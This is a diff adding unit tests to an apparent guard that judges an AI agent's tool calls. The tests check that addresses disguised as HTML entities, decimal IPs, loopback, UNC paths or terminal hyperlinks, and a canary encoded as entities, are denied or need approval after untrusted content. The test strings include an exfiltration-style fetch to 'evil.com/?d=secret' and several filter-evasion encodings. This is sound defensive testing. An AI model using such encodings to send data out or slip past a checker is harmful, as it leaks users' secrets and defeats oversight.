@@ -103,6 +103,29 @@ def test_what_is_told_of_a_refused_call_holds_no_word_of_the_models() -> None:
     assert CANARY not in repr(verdict)
 
 
+@pytest.mark.parametrize(
+    "written",
+    [
+        "<img src='https&colon;//[::1]/p'>",
+        "https&colon;//2130706433/p",
+        "&#104;ttps:&#x2f;/[::1]/",
+        "&lt;https://[::1]/",
+    ],
+)
+def test_an_address_behind_entities_is_one_for_whoever_reads_the_arguments_as_a_page(written: str) -> None:
+    """In an answer the entity is made inert; arguments are handed on as they are."""
+    verdict = judged(call("look_up", {"to": written}), is_tainted=True)
+
+    assert [one.why for one in verdict.denied] == ["arguments hold an address that is not allowed"]
+    assert not judged(call("look_up", {"to": "salt &amp; pepper, 3 &lt; 4"})).denied
+
+
+def test_the_canary_behind_entities_is_found_in_arguments() -> None:
+    verdict = judged(call("look_up", {"to": "".join(f"&#{ord(letter)};" for letter in CANARY)}))
+
+    assert [one.why for one in verdict.denied] == ["arguments hold canary"]
+
+
 def test_allowed_addresses_may_be_passed() -> None:
     assert judged(call("look_up", {"to": "https://ok.example/a"})).denied == []
 
@@ -132,6 +155,25 @@ def test_after_untrusted_content_what_only_reads_may_go_on() -> None:
 def test_after_untrusted_content_reading_from_a_named_host_is_an_act() -> None:
     """A fetch carries out what its address holds."""
     assert judged(call("look_up", {"to": "evil.com/?d=secret"}), is_tainted=True).needs_approval != []
+
+
+@pytest.mark.parametrize(
+    ("written", "is_act"),
+    [
+        ("<ftp://[::1]/p?d=1>", True),
+        ("<img src='//2130706433/p'>", True),
+        ("<img src=\\\\2130706433\\p>", True),
+        ("\x1b]8;;https://evil.zz/\x07t\x1b]8;;\x07", True),
+        ("a // b, 7//2, C:\\Users, https://ok.example/a and/or // this", False),
+    ],
+)
+def test_after_untrusted_content_an_address_of_any_kind_makes_reading_an_act(
+    written: str, is_act: bool
+) -> None:
+    """The tool may fetch what no client would have shown as a link."""
+    verdict = judged(call("look_up", {"to": written}), is_tainted=True)
+
+    assert bool(verdict.denied or verdict.needs_approval) == is_act
 
 
 @pytest.mark.parametrize(("rule", "outcome"), [("allow", (0, 0)), ("approve", (0, 1)), ("refuse", (1, 0))])
